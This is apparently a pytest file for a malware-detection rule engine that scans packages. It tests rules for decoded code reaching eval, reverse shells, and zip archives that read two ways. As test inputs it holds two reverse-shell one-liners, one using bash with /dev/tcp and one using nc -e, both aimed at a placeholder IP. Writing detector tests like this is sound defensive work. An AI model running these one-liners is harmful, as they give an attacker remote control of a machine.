"""The three exemplary rules, judged without parsing."""

import pytest
from listing import Listing

from pratique.rules import judge, load

RULES = {rule.id: rule for rule in load()}


def fired(slug, listing):
    return [(finding.trigger, finding.primary.line) for finding in judge((RULES[slug],), listing.evidence())]


def test_run_decoded_code_wants_decoded_text_to_reach_execution():
    listing = Listing()
    start = listing.entry("install")
    listing.use("code.eval", line=3, entries=[start])
    assert fired("run-decoded-code", listing) == []

    listing.flow("decoded", 0, "code", source_operand="base64+zlib")
    assert fired("run-decoded-code", listing) == [("install", 3)]


@pytest.mark.parametrize("command", ["bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "nc 192.0.2.1 99 -e /bin/sh"])
def test_open_reverse_shell_knows_the_one_liners(command):
    listing = Listing()
    listing.use("process.spawn", "shell", target=command, line=4, triggers=("import",))

    assert fired("open-reverse-shell", listing) == [("import", 4)]


def test_open_reverse_shell_wants_shell_connection_and_descriptors_in_one_function():
    listing = Listing()
    listing.use("network.connect", symbol="go", line=1)
    listing.use("process.spawn", "shell", symbol="go", line=3)
    assert fired("open-reverse-shell", listing) == []

    listing.use("process.redirect-stdio", symbol="go", line=2)
    assert fired("open-reverse-shell", listing) == [("call", 3)]


def test_hold_an_archive_with_two_readings_wants_a_misleading_flaw():
    listing = Listing()
    listing.problem("zip-zeros", "info")
    assert fired("hold-an-archive-with-two-readings", listing) == []

    listing.problem("zip-names-differ", "hostile", "pkg/data.zip")
    assert fired("hold-an-archive-with-two-readings", listing) == [("install", 0)]
